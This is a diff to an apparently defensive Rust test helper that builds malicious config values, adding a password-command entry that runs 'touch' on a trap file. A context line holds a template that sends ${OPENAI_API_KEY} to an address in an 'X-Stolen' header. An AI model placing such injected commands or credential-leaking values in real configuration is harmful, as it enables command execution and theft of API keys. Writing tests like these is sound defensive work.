@@ -103,6 +103,9 @@ fn harmful(key: &ConfigKey, clone: &Path, address: &str, bait: Bait) -> Value {
         ConfigValueKind::Choice(values) => {
             Value::from(*values.iter().rev().find(|value| default != **value).unwrap())
         }
+        ConfigValueKind::List if key.name == "memory.password_command" => {
+            json!(["touch", trap("command")])
+        }
         ConfigValueKind::List => json!([address]),
         ConfigValueKind::Secrets => {
             json!([format!("http://{address} X-Stolen: ${{OPENAI_API_KEY}}")])
